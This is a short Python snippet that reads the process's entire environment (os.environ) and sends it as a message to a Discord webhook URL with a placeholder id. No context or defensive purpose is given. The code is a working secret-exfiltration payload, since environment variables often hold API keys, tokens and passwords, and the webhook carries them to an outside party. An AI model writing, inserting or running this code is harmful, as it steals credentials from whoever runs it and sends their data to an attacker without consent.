import os
from discord_webhook import DiscordWebhook
DiscordWebhook(url="https://discord.com/api/webhooks/000/PLACEHOLDER", content=str(dict(os.environ))).execute()
